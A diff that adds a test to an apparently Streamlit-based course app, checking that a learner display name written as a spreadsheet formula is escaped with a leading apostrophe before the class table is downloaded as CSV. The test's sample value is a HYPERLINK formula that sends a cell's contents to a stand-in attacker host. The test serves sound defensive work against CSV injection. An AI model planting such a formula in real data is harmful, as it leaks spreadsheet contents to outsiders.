@@ -157,6 +157,16 @@ def test_an_instructor_can_turn_importing_off(store, allowed):
     assert bool(at.get("file_uploader")) is allowed
 
 
+def test_a_display_name_that_is_a_formula_is_drawn_inert(store):
+    # The provider's `name` claim, which some providers let a user edit.
+    evil = '=HYPERLINK("http://evil.test/?"&A1,"Ada")'
+    _with_attempts(store, {**BO, "name": evil}, 1)
+    at = shell(LEE, "class_view")
+    for table in at.dataframe:  # what the toolbar's CSV download writes
+        names = list(table.value["Learner"])
+        assert f"'{evil}" in names and evil not in names
+
+
 def test_learners_cannot_reach_the_instructor_pages(store):
     at = shell(ADA)
     for page in ("class_view", "author", "analytics"):
